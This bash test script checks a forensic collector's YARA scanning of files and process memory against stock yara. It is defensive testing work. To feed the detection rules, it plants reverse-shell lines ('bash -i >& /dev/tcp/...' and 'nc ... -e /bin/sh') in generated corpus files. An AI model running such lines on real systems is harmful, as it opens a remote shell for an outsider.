#!/bin/bash
# Copyright 2026 csirt-collect developers
# SPDX-License-Identifier: Apache-2.0
#
# YARA (issue 5), checked against the stock yara and yarac: the built-in
# rules on their samples; the agent's (rule, file) matches and string
# offsets on a generated corpus equal `yara -r -s`; the Loki externals;
# signature-base as one rule set; a process holding a marker; a broken
# rule file; a sweep through a sparse file, a FIFO and an unreadable file.
. "$(dirname "$0")/lib.sh"

RULES=$CC_TOP/rules
SB=$SHARED/signature-base
ROOT=$T/root
C=$ROOT/corpus

# A sample: "#!elf-shared-object" as first line stands for an ELF header.
materialise() {
	if [ "$(head -n 1 "$1")" = "#!elf-shared-object" ]; then
		{ printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000'
		  printf '\003\000\076\000'; head -c 44 /dev/zero
		  tail -n +2 "$1"; } >"$2"
	else cp "$1" "$2"; fi
}

# --- The default rules on their samples (stock yara) -------------------
mkdir -p "$C/samples" "$C/gen/a/b" "$C/ext/sub" "$C/ext/deep"
for s in "$CC_TOP"/tests/rules/*.yes "$CC_TOP"/tests/rules/*.no; do
	materialise "$s" "$C/samples/$(basename "$s")"
done
bad=""
for s in "$C"/samples/*.yes "$C"/samples/*.no; do
	r=$(basename "${s%.*}")
	got=$(yara "$RULES"/*.yar "$s" 2>/dev/null | cut -d' ' -f1 | grep -cx "$r")
	case "$s" in *.yes) [ "$got" -eq 1 ] || bad="$bad $r.yes" ;;
	*) [ "$got" -eq 0 ] || bad="$bad $r.no" ;; esac
done
nrules=$(cat "$RULES"/*.yar | grep -c '^rule ')
nyes=$(ls "$CC_TOP"/tests/rules/*.yes | wc -l)
[ -z "$bad" ] && [ "$nrules" -eq "$nyes" ] &&
	ok "each of the $nrules default rules matches its .yes sample and not its .no (stock yara)" ||
	nok "default rules vs samples:$bad (rules $nrules, samples $nyes)"

# --- A generated corpus: agent vs stock yara -r -s ---------------------
for i in $(seq 1 40); do
	head -c $((i * 1500)) /dev/urandom | base64 >"$C/gen/r$i.txt"
done
for i in 1 2 3; do	# patterns at known places, some duplicated content
	{ head -c $((i * 7000)) /dev/zero | tr '\0' 'a'
	  printf '\nbash -i >& /dev/tcp/198.51.100.%d/443 0>&1\n' "$i"
	  head -c 500 /dev/zero | tr '\0' 'b'; printf '\nnc 10.0.0.1 9 -e /bin/sh\n'
	} >"$C/gen/a/shell$i.sh"
	cp "$C/gen/a/shell$i.sh" "$C/gen/a/b/copy$i.sh"
done
cp "$C/samples/CC_Webshell_PHP_Eval_Request.yes" "$C/gen/a/b/up.php"

mkdir "$T/o1"
check_rc "a dead-box sweep with the built-in rules exits 0" 0 \
	"$CC_BIN" run --root "$ROOT" --scan-path /corpus --output "$T/o1" --json --quiet
A=$(archive_in "$T/o1"); mkdir "$T/x1"; tar --zstd -xf "$A" -C "$T/x1" 2>/dev/null
M=$T/x1/yara/matches.jsonl
jq -r 'select(.target=="file" and (.path|startswith("/corpus/"))) | "\(.rule) \(.path)"' "$M" |
	sort -u >"$T/agent.pairs"
(cd "$ROOT" && yara -r "$RULES"/*.yar corpus 2>/dev/null) | sed 's| corpus/| /corpus/|' |
	sort -u >"$T/stock.pairs"
if [ -s "$T/stock.pairs" ] && cmp -s "$T/agent.pairs" "$T/stock.pairs"; then
	ok "(rule, file) matches equal stock yara -r ($(wc -l <"$T/stock.pairs") pairs)"
else nok "(rule, file) differ from yara -r:"; diff "$T/agent.pairs" "$T/stock.pairs" | head; fi
jq -r 'select(.target=="file" and (.path|startswith("/corpus/"))) |
	.rule as $r | .path as $p | .strings[] | "\($r) \($p) \(.offset) \(.id)"' "$M" |
	sort -u >"$T/agent.str"
(cd "$ROOT" && yara -r -s "$RULES"/*.yar corpus 2>/dev/null) | awk '
	function hex(s,  i, n) { n = 0; s = tolower(substr(s, 3))
		for (i = 1; i <= length(s); i++) n = n * 16 + index("0123456789abcdef", substr(s, i, 1)) - 1
		return n }
	/^0x/ { split($0, f, ":"); printf "%s %s %d %s\n", r, p, hex(f[1]), f[2]; next }
	{ r = $1; p = "/" $2 }' | sort -u >"$T/stock.str"
if [ -s "$T/stock.str" ] && cmp -s "$T/agent.str" "$T/stock.str"; then
	ok "string ids and offsets equal stock yara -s ($(wc -l <"$T/stock.str") strings)"
else nok "string offsets differ from yara -s:"; diff "$T/agent.str" "$T/stock.str" | head; fi
check "match records carry rule, namespace, tags, meta, target, path, sha256, strings" \
	jqe -s 'length > 0 and all(.[]; has("rule") and has("namespace") and (.tags|type=="array")
	  and (.meta|has("description") and has("author") and has("date") and has("reference"))
	  and .target=="file" and has("path") and (.sha256|length==64) and (.strings|type=="array"))' "$M"
p=$(jq -r 'select(.path=="/corpus/gen/a/b/up.php") | .sha256' "$M" | head -n 1)
check "the record's sha256 is the file's" test "$p" = "$(sha256sum <"$C/gen/a/b/up.php" | cut -d' ' -f1)"
check "matching swept files are archived under files/" \
	cmp -s "$C/gen/a/b/up.php" "$T/x1/files/corpus/gen/a/b/up.php"
check "files that do not match are not archived" test ! -e "$T/x1/files/corpus/gen/r1.txt"
check "manifest rules: built-in source, version and sha256" \
	jqe '.rules.source=="built-in" and (.rules.sha256|length==64) and .rules.version != null' "$T/x1/manifest.json"
check "--json summary counts matches by rule" \
	jqe '.yara.matches > 0 and .yara.rules.CC_ReverseShell_Bash_DevTcp >= 6' "$T/.out"
check "matches.jsonl is listed in the manifest with its hash" \
	jqe '.entries[] | select(.path=="yara/matches.jsonl") | .sha256' "$T/x1/manifest.json"

# --- Loki externals: filename, filepath, extension, filetype, md5 ------
printf 'hello\n' >"$C/ext/a.PHP"; printf 'hello\n' >"$C/ext/sub/config.inc"
printf 'hello\n' >"$C/ext/sub/b.txt"; printf 'x\n' >"$C/ext/deep/x1.txt"
printf 'y\n' >"$C/ext/deep/y1.txt"; printf 'z\n' >"$C/ext/.hidden"
materialise "$CC_TOP/tests/rules/CC_Miner_Binary_XMRig.no" "$C/ext/lib.so"
md5=$(md5sum <"$C/ext/deep/y1.txt" | cut -d' ' -f1)
cat >"$T/ext.yar" <<EOF
rule Ext_Php { condition: extension == ".php" }
rule Ext_None { condition: extension == "" and filepath == "/corpus/ext" }
rule Name_Exact { condition: filename == "config.inc" }
rule Path_Dir { condition: filepath == "/corpus/ext/sub" }
rule Path_Name_Re { condition: filepath matches /\/ext\/deep\$/ and filename matches /^x[0-9]\.txt\$/ }
rule Type_Elf { condition: filetype == "ELF" and filepath startswith "/corpus/ext" }
rule Md5_Eq { condition: md5 == "$md5" }
EOF
mkdir "$T/o2"
check_rc "a sweep with a rule set using the externals exits 0" 0 \
	"$CC_BIN" run --root "$ROOT" --scan-path /corpus/ext --rules "$T/ext.yar" --output "$T/o2" --quiet
tar --zstd -xOf "$(archive_in "$T/o2")" yara/matches.jsonl |
	jq -r '"\(.rule) \(.path)"' | sort >"$T/ext.got"
sort >"$T/ext.want" <<EOF
Ext_None /corpus/ext/.hidden
Ext_Php /corpus/ext/a.PHP
Md5_Eq /corpus/ext/deep/y1.txt
Name_Exact /corpus/ext/sub/config.inc
Path_Dir /corpus/ext/sub/b.txt
Path_Dir /corpus/ext/sub/config.inc
Path_Name_Re /corpus/ext/deep/x1.txt
Type_Elf /corpus/ext/lib.so
EOF
if cmp -s "$T/ext.got" "$T/ext.want"; then
	ok "filename, filepath, extension, filetype and md5 rules match exactly the files they should"
else nok "externals:"; diff "$T/ext.got" "$T/ext.want"; fi

# --- signature-base: one rule set, with the externals -------------------
# The large external rule set is in ../shared only: without it, SKIP.
if [ -d "$SB/yara" ]; then
	nsb=$(find "$SB/yara" -type f \( -name '*.yar' -o -name '*.yara' \) | wc -l)
	check "stock yarac compiles all of signature-base with the externals defined" \
		yarac -d filename= -d filepath= -d extension= -d filetype= -d owner= -d md5= \
		$(find "$SB/yara" -type f \( -name '*.yar' -o -name '*.yara' \) | sort) "$T/sb.yarc"
	mkdir "$T/o3"
	check_rc "all of signature-base/yara loads as one rule set (a sweep with it exits 0)" 0 \
		"$CC_BIN" run --root "$ROOT" --scan-path /corpus/samples --rules "$SB/yara" --output "$T/o3" --quiet
	tar --zstd -xOf "$(archive_in "$T/o3")" manifest.json >"$T/sb.manifest" 2>/dev/null
	check "the manifest names signature-base, its $nsb files and their sha256" \
		jqe --arg n "$nsb" '.rules.files == ($n|tonumber) and .rules.rules > 1000 and (.rules.sha256|length==64) and (.rules.source|endswith("signature-base/yara"))' "$T/sb.manifest"
else
	skip "signature-base is not in $SHARED: the rule-set cases did not run"
fi

# --- Broken rule files: exit 2 with file and line, nothing collected ----
mkdir -p "$T/bad" "$T/o4"
cp "$RULES/webshells.yar" "$T/bad/good.yar"
printf 'rule ok { condition: true }\n\nrule broken { strings: $a = "x" condition: $a and and }\n' >"$T/bad/broken.yar"
check_rc "a rule file that does not compile: exit 2" 2 \
	"$CC_BIN" run --root "$ROOT" --rules "$T/bad" --output "$T/o4"
if last_err_has "$T/bad/broken.yar:3:"; then ok "the message names the rule file and line"
else nok "message: $(cat "$T/.err")"; fi
check "nothing collected: no archive written" test -z "$(ls -A "$T/o4")"
printf 'import "lnk"\nrule c { condition: true }\n' >"$T/bad/broken.yar"
check_rc "a rule needing a module missing from the build: exit 2" 2 \
	"$CC_BIN" run --root "$ROOT" --rules "$T/bad/broken.yar" --output "$T/o4"
if last_err_has "lnk" && last_err_has "broken.yar:1:"; then ok "the missing module (lnk, YARA 4.3+) is named with file and line"; else nok "message: $(cat "$T/.err")"; fi

# --- A matching swept file is read once --------------------------------
# The sweep's reader reads it, and the archive is written from those
# bytes: under strace, its path is opened once and read size bytes in
# all (the collector that archived matches with collect_file opened and
# read it a second time). A large one (past the readers' ring, read into
# the scan buffer) too. Past SCAN_CAP: t-sweep.sh.
O=$ROOT/once
mkdir -p "$O"
printf 'rule Once_Marker { strings: $m = "CC_ONCE_MARKER_q3" condition: $m }\n' >"$T/once.yar"
{ head -c 300000 /dev/urandom | base64; printf '\nCC_ONCE_MARKER_q3\n'; } >"$O/m.sh"
head -c 200000 /dev/urandom | base64 >"$O/n.txt"
{ printf 'CC_ONCE_MARKER_q3\n'; head -c 20000000 /dev/urandom; } >"$O/big.bin"
chmod -R a+rX "$O"
mkdir "$T/o9" "$T/st"
if command -v strace >/dev/null 2>&1; then
	# -ff: one trace per thread, so no call is split across lines.
	# LeakSanitizer (make check-asan) cannot work under ptrace: off here.
	check_rc "a sweep under strace exits 0" 0 \
		env ASAN_OPTIONS="${ASAN_OPTIONS:-}${ASAN_OPTIONS:+:}detect_leaks=0" \
		strace -ff -qq -y -o "$T/st/t" -e trace=open,openat,openat2,read,pread64,readv,preadv,preadv2 \
		"$CC_BIN" run --root "$ROOT" --scan-path /once --rules "$T/once.yar" --output "$T/o9" --quiet
	# read_once DESC FILE: opened once and read its size in all.
	read_once() {
		size=$(stat -c %s "$2")
		opens=$(cat "$T"/st/t.* | grep -E '(open|openat|openat2)\(' | grep -cF -- "<$2>")
		bytes=$(cat "$T"/st/t.* | grep -E '(read|pread64|readv|preadv|preadv2)\([0-9]+<' | grep -F -- "<$2>," |
			sed -n 's/.*) = \([0-9][0-9]*\)$/\1/p' | awk '{ s += $1 } END { print s + 0 }')
		echo "# $2: $opens opens, $bytes bytes read of $size"
		check "$1 is opened once ($opens) and read once ($bytes of $size bytes)" \
			test "$opens" -eq 1 -a "$bytes" -eq "$size"
	}
	read_once "a matching swept file" "$O/m.sh"
	read_once "a large matching swept file (past the ring)" "$O/big.bin"
else
	skip "no strace: the read count of a matching swept file was not checked"
	check_rc "a sweep exits 0" 0 "$CC_BIN" run --root "$ROOT" --scan-path /once \
		--rules "$T/once.yar" --output "$T/o9" --quiet
fi
mkdir "$T/x9"; tar --zstd -xf "$(archive_in "$T/o9")" -C "$T/x9" 2>/dev/null
check "…its archived bytes are the file's" cmp -s "$O/m.sh" "$T/x9/files/once/m.sh"
check "…and the manifest's sha256 is the file's" test \
	"$(jq -r '.entries[] | select(.path=="files/once/m.sh") | .sha256' "$T/x9/manifest.json")" = \
	"$(sha256sum <"$O/m.sh" | cut -d' ' -f1)"
check "…its match record's sha256 too" test \
	"$(jq -r 'select(.path=="/once/m.sh") | .sha256' "$T/x9/yara/matches.jsonl" | head -n 1)" = \
	"$(sha256sum <"$O/m.sh" | cut -d' ' -f1)"
check "a swept file that does not match is not archived" test ! -e "$T/x9/files/once/n.txt"
check "a large matching swept file (past the ring) is archived whole and right" \
	cmp -s "$O/big.bin" "$T/x9/files/once/big.bin"
check "…and its manifest sha256 is the file's" test \
	"$(jq -r '.entries[] | select(.path=="files/once/big.bin") | .sha256' "$T/x9/manifest.json")" = \
	"$(sha256sum <"$O/big.bin" | cut -d' ' -f1)"
check "the sweep's summary counts 3 files scanned, 2 matched" \
	grep -q '0 processes and 3 files scanned .* 2 files matched' "$T/x9/collection.log"

# --- Process memory: a process holding a marker -------------------------
# The rule has the marker in hex, so only a process holding its ASCII
# form matches; the Python process builds it from two halves.
hexm=$(printf 'CCYARA_MARKER_%s_q7' "$$" | od -An -tx1 | tr -s ' \n' ' ')
printf 'rule Marker_In_Memory { strings: $m = {%s} condition: $m }\n' "$hexm" >"$T/marker.yar"
python3 -c 'import sys, time; m = "CCYARA_MARKER_" + sys.argv[1] + "_q7"; time.sleep(120)' "$$" &
MPID=$!; at_exit "kill $MPID 2>/dev/null"
sleep 0.5
mkdir "$T/o5" "$T/o6"
check_rc "a live run with process memory scanning exits 0" 0 \
	"$CC_BIN" run --profile LinuxSystemRelease --rules "$T/marker.yar" --output "$T/o5" --quiet
tar --zstd -xOf "$(archive_in "$T/o5")" yara/matches.jsonl >"$T/p.jsonl" 2>/dev/null
check "the process holding the marker is reported with its pid and name" \
	jqe --argjson p "$MPID" '[inputs] | any(.target=="process" and .pid==$p and .process=="python3" and (.exe|test("python")))' -n "$T/p.jsonl"
if jqe --argjson p "$MPID" '[inputs] | all(.pid==$p)' -n "$T/p.jsonl"; then
	ok "no other process is reported (the agent skips itself)"
else
	nok "no other process is reported (the agent skips itself)"
	# Which, to tell a flake from a bug: the record and the live cmdline.
	jq -c --argjson p "$MPID" 'select(.pid!=$p) | {pid, process, exe, rule}' "$T/p.jsonl" |
	while read -r l; do
		echo "#   also reported: $l: $(tr '\0' ' ' </proc/"$(echo "$l" | jq .pid)"/cmdline 2>/dev/null | cut -c1-160)"
	done
fi
check_rc "a live run with --no-process-memory exits 0" 0 \
	"$CC_BIN" run --profile LinuxSystemRelease --rules "$T/marker.yar" --no-process-memory --output "$T/o6" --quiet
check "with --no-process-memory nothing is reported for it" \
	test ! -s <(tar --zstd -xOf "$(archive_in "$T/o6")" yara/matches.jsonl 2>/dev/null)
kill $MPID 2>/dev/null

# --- A process hiding a marker behind huge untouched mappings ------------
# 2 x 64 GiB reserved (MAP_NORESERVE) and never touched, the marker in a
# page of the second: only pages that exist are read, so the scan reaches
# it at once instead of reading zeros until its timeout.
hexs=$(printf 'CCSPARSE_MARKER_%s_z9' "$$" | od -An -tx1 | tr -s ' \n' ' ')
printf 'rule Sparse_Marker { strings: $m = {%s} condition: $m }\n' "$hexs" >"$T/sparse.yar"
python3 -c 'import mmap, sys, time
F = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # MAP_NORESERVE
big = [mmap.mmap(-1, 64 << 30, flags=F) for _ in range(2)]
m = ("CCSPARSE_MARKER_" + sys.argv[1] + "_z9").encode()
big[1][12345 * 4096:12345 * 4096 + len(m)] = m
print("ready", flush=True); time.sleep(120)' "$$" >"$T/sparse.ready" &
SPID=$!; at_exit "kill $SPID 2>/dev/null"
for _ in $(seq 100); do grep -q ready "$T/sparse.ready" 2>/dev/null && break; sleep 0.1; done
mkdir "$T/o8"
check_rc "a live run with a process of 128 GiB of untouched mappings exits 0" 0 \
	"$CC_BIN" run --profile LinuxSystemRelease --rules "$T/sparse.yar" --output "$T/o8" --quiet
tar --zstd -xOf "$(archive_in "$T/o8")" yara/matches.jsonl >"$T/sp.jsonl" 2>/dev/null
check "…the marker behind them is found in that process" \
	jqe --argjson p "$SPID" '[inputs] | any(.target=="process" and .pid==$p and .rule=="Sparse_Marker")' -n "$T/sp.jsonl"
check "…and no process scan timed out" bash -c \
	"tar --zstd -xOf '$(archive_in "$T/o8")' collection.log | grep -q ' 0 timeouts'"
kill $SPID 2>/dev/null

# --- A sweep through a sparse file, a FIFO and an unreadable file --------
S=$ROOT/sweep
mkdir -p "$S/d"
truncate -s 2G "$S/sparse.img"
mkfifo "$S/fifo"
printf 'secret\n' >"$S/unreadable"; chmod 000 "$S/unreadable"
ln -s /etc/shadow "$S/link"
cp "$C/samples/CC_ReverseShell_Bash_DevTcp.yes" "$S/d/last.sh"
mkdir "$T/o7"; chmod 777 "$T/o7"; chmod -R a+rX "$ROOT"; chmod 000 "$S/unreadable"; chmod 755 "$T"
as=""
# root reads anything: drop to nobody so the file is really unreadable.
[ "$(id -u)" -eq 0 ] && as="setpriv --reuid=65534 --regid=65534 --clear-groups"
start=$(date +%s)
check_rc "the sweep goes through a 2 GB sparse file, a FIFO and an unreadable file" 0 \
	timeout 90 $as "$CC_BIN" run --allow-unprivileged --root "$ROOT" --scan-path /sweep --output "$T/o7" --quiet
echo "# sweep took $(( $(date +%s) - start ))s"
A=$(archive_in "$T/o7")
tar --zstd -xOf "$A" yara/matches.jsonl >"$T/s.jsonl" 2>/dev/null
tar --zstd -xOf "$A" manifest.json >"$T/s.manifest" 2>/dev/null
check "a match after them is still found" \
	jqe -s 'any(.[]; .path=="/sweep/d/last.sh")' "$T/s.jsonl"
check "the unreadable file is listed in the manifest errors" \
	jqe '.errors | any(.path=="/sweep/unreadable")' "$T/s.manifest"
check "the FIFO and the symlink are not reported as errors" \
	jqe '(.errors|length) > 0 and (.errors | all(.path!="/sweep/fifo" and .path!="/sweep/link"))' "$T/s.manifest"
check "the sparse file is scanned on its first bytes (logged)" \
	bash -c "tar --zstd -xOf '$A' collection.log | grep -q 'sparse.img: 2147483648 bytes: scanned on its first'"
